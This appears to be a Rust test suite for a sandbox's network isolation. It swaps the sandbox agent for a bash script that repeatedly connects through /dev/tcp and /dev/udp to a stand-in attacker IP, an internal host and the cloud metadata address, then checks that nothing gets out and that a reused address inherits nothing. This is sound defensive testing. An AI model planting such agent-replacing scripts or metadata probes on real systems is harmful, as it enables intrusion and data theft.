//! The first moments of a sandbox: what it sends before anybody has said what it may, and what it gets of those that
//! had its address before.

use std::{fs, os::unix::fs::PermissionsExt as _, path::Path};

use harness::{
    node::Node,
    probe,
    sandbox::Sandbox,
    wait,
    world::{EVIL, OK, World},
};
use serde_json::json;

use super::{Besieged, address, told};
use crate::{
    machine::fixture_policy,
    outages::{RECOVERY, wait_until_served},
};

/// Where the true agent lies in the image.
const AGENT: &str = "/usr/lib/sandgate/agent";
/// In the agent's place: sends, connects and asks from its first instruction on, by what the shell has built in, and
/// becomes the agent while that goes on.
const HOSTILE: &str = r#"#!/bin/bash
attack() {
    for n in {1..3000}; do
        echo canary > /dev/udp/203.0.113.66/8080
        echo canary > /dev/udp/203.0.113.66/53
        echo canary > /dev/tcp/203.0.113.66/8080
        echo canary > /dev/tcp/203.0.113.66/443
        echo canary > /dev/tcp/10.0.0.5/80
        echo canary > /dev/tcp/169.254.169.254/80
        (( n > 200 )) && sleep 0.02
    done
} 2> /dev/null
echo canary 2> /dev/null > /dev/udp/203.0.113.66/8080
attack < /dev/null > /dev/null &
disown
exec /usr/lib/sandgate/agent "$@"
"#;

/// Puts the hostile agent in the place of the true one, in an image and programs of this node alone.
fn arm(world: &World, node: &mut Node) {
    node.own_programs().expect("programs of its own");
    let (agent, images) = (
        node.programs_dir().join("sandboxd"),
        world.directory().join("images"),
    );
    let installed =
        std::env::var("SANDGATE_IMAGE_DIR").unwrap_or_else(|_| "/var/lib/sandgate/images".to_owned());
    let (from, to) = (Path::new(&installed).join("default"), images.join("default"));
    let (root, changes, work) = (to.join("rootfs"), to.join("changes"), to.join("work"));
    for directory in [&root, &changes, &work] {
        fs::create_dir_all(directory).expect("a directory");
    }
    for directory in [&images, &to, &root, &changes] {
        fs::set_permissions(directory, fs::Permissions::from_mode(0o755)).expect("passable");
    }
    fs::copy(from.join("image.json"), to.join("image.json")).expect("the image's description");
    let true_agent = changes.join(AGENT.trim_start_matches('/'));
    fs::create_dir_all(true_agent.parent().expect("a directory")).expect("a directory");
    fs::copy(&agent, &true_agent).expect("the agent");
    let options = format!(
        "lowerdir={},upperdir={},workdir={}",
        from.join("rootfs").display(),
        changes.display(),
        work.display()
    );
    world
        .node()
        .command(
            "mount",
            &[
                "-t",
                "overlay",
                "-o",
                &options,
                "image",
                &root.display().to_string(),
            ],
        )
        .expect("the image");
    // A new file: the old one is others' too.
    fs::remove_file(&agent).expect("the agent's place");
    fs::write(&agent, HOSTILE).expect("the agent's place");
    fs::set_permissions(&agent, fs::Permissions::from_mode(0o755)).expect("executable");
    node.set("SANDGATE_IMAGE_DIR", &images.display().to_string());
}

pub(crate) fn what_sends_with_its_first_instruction_gets_nothing_out(_shared: &Besieged) {
    let world = World::fixture().build().expect("a world");
    let settings = [("WARM_POOL_ENABLED", "true"), ("WARM_POOL_SIZE", "1")];
    let mut node = Node::new(&world, world.place(), "", &settings).expect("settings");
    arm(&world, &mut node);
    let mark = world.capture().mark();
    node.start_again().expect("it starts");
    let siege = Besieged::on(world, node);
    let full = || {
        wait::until("the pool has its member", RECOVERY * 2, || {
            let stats = siege.organization.client.get("/pool/stats").send().ok();
            (stats["ready"] == 1).then_some(())
        });
    };
    // A member of the pool: nobody's, and already at it.
    full();
    let sent = siege.world.capture().sent_since(mark);
    assert!(sent.is_empty(), "a sandbox that is nobody's sent this: {sent:#?}");
    let attacked = |sandbox: &Sandbox| {
        wait::until("the attack is told of", RECOVERY, || {
            (told(sandbox, |event| event["ip"] == EVIL.to_string()) > 20).then_some(())
        });
    };
    for warm in [true, false] {
        full();
        let mut body = json!({ "network": fixture_policy() });
        if !warm {
            body["cpus"] = json!("1");
        }
        let sandbox = siege.organization.sandbox(&body);
        assert_eq!(
            sandbox.created["startup_metrics"]["warm"], warm,
            "{}",
            sandbox.created
        );
        attacked(&sandbox);
        // And the one thing that it may works, also while it attacks.
        wait_until_served(&siege.probe(&sandbox));
        sandbox.stop();
    }
    siege.assert_only_allowed(mark);
    siege.world.capture().assert_nothing_to(EVIL, mark);
}

/// Keeps a connection from this port, and says whether it still is one.
const HOLD: &str = "
import socket, time
stream = socket.socket()
stream.bind(('0.0.0.0', 40000))
stream.connect(('203.0.113.10', 80))
stream.sendall(b'GET /drip HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n')
while data := stream.recv(4096):
    print(len(data), flush=True)
";

pub(crate) fn an_address_that_is_given_again_inherits_nothing(_shared: &Besieged) {
    let world = World::fixture().build().expect("a world");
    // All addresses but one are somebody's all the time, so that this one is given again at once.
    let node = Node::start_with(&world, &[("SANDGATE_SANDBOX_CIDR", "10.213.9.0/28")]).expect("it starts");
    let siege = Besieged::on(world, node);
    let mut others = Vec::new();
    let first = siege.fenced();
    loop {
        let answer = siege
            .organization
            .client
            .post("/sandbox/create")
            .json(&json!({ "disk": "64Mi" }))
            .send();
        if !answer.status.is_success() {
            break;
        }
        others.push(answer.ok()["sandbox_id"].as_str().expect("an id").to_owned());
        assert!(others.len() < 16, "there is no end to the addresses");
    }
    let place = address(&first);
    let mut present = first;
    for end in 0..3 {
        let probe = siege.probe(&present);
        // Pins, a record of a question, and connections, all of this sandbox.
        wait_until_served(&probe);
        present.write("/workspace/hold.py", HOLD);
        present.background("exec python3 /workspace/hold.py", |sandbox| {
            sandbox.sh("test -s /workspace/background.log").exit_code == 0
        });
        match end {
            0 => present.stop(),
            1 => drop(present.client().delete(&present.path("")).send().ok()),
            _ => {
                let processes = siege.node.processes_of(&present.id);
                let first = processes
                    .iter()
                    .find(|process| process.numbers.last() == Some(&1));
                siege.node.kill(first.expect("a first process")).expect("it runs");
            }
        }
        let next = wait::until("the address can be had again", RECOVERY, || {
            let body = json!({ "network": fixture_policy() });
            let answer = siege
                .organization
                .client
                .post("/sandbox/create")
                .json(&body)
                .send();
            answer.status.is_success().then(|| answer.ok())
        });
        let next = Sandbox {
            organization: siege.organization.clone(),
            id: next["sandbox_id"].as_str().expect("an id").to_owned(),
            created: next,
        };
        assert_eq!(address(&next), place, "it has another address");
        let mark = siege.world.capture().mark();
        let from = json!({
            "kind": "frame", "source": place, "to": OK.to_string(), "port": 80, "protocol": 6, "flags": 0x10,
        });
        let reset = probe::with(from.clone(), json!({ "flags": 0x04 }));
        let outcomes = siege.as_root(
            &next,
            &[
                // What the old one knew.
                probe::https(OK, "ok.test"),
                probe::http(OK, "ok.test"),
                // What the old one had open, from its very port.
                from,
                reset,
                probe::with(probe::tcp(OK, 80, "canary"), json!({ "from": 40_000 })),
            ],
        );
        for refused in [&outcomes[0], &outcomes[1], &outcomes[4]] {
            refused.assert_refused_at_connect();
        }
        let sent = siege.world.capture().sent_since(mark);
        let begun: Vec<_> = sent
            .iter()
            .filter(|packet| packet.opens || !packet.payload.is_empty())
            .collect();
        assert!(begun.is_empty(), "it goes on where the old one was: {begun:#?}");
        wait::until("the old one's connections have ended", RECOVERY, || {
            let visits = siege.world.web.visits_for("ok.test");
            visits.iter().all(|visit| visit.closed).then_some(())
        });
        assert!(
            next.audit("decision=allow").is_empty(),
            "what the old one did is told of the new one"
        );
        // It can learn what the old one knew, by asking itself.
        wait_until_served(&siege.probe(&next));
        present = next;
    }
    present.stop();
}
